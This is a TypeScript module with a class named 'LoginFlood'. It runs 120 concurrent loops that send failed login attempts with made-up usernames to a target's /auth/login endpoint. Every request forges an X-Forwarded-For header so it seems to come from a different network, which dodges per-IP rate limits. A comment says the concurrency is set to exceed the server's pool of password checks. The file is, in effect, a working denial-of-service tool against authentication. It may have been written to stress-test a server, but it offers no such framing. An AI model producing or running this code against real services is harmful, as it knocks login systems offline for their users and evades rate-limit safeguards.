import { setTimeout as pause } from "node:timers/promises";

/** Logins in flight, and the pause before each next one. The pool of password checks is full with 66. */
const AT_ONCE = 120;
const PAUSE_MS = 200;

/** Logs in with made-up names and passwords, each time from another network. */
export class LoginFlood {
  readonly #url: string;
  #running: Promise<unknown> | null = null;
  #isOver = false;
  #count = 0;

  constructor(url: string) {
    this.#url = url;
  }

  start(): void {
    this.#isOver = false;
    this.#running = Promise.all(Array.from({ length: AT_ONCE }, async () => await this.#repeat()));
  }

  async stop(): Promise<void> {
    this.#isOver = true;
    await this.#running;
  }

  async #repeat(): Promise<void> {
    while (!this.#isOver) {
      const i = this.#count++;
      const source = `${(i % 200) + 11}.${(i >> 8) & 255}.${i & 255}.1`;
      const response = await fetch(`${this.#url}/auth/login`, {
        method: "POST",
        headers: { "Content-Type": "application/json", "X-Forwarded-For": source },
        body: JSON.stringify({ username: `stranger-${i}`, password: "a wrong password" }),
      });
      await response.arrayBuffer();
      await pause(PAUSE_MS);
    }
  }
}
